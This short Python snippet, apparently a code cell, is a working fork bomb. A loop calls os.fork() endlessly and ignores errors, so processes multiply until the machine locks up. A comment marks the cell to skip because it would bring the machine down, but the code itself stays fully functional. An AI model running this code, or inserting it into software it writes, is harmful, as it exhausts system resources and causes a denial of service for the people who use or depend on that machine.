"""The cell forks without end."""
# stock: skip, it would take the machine with it
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
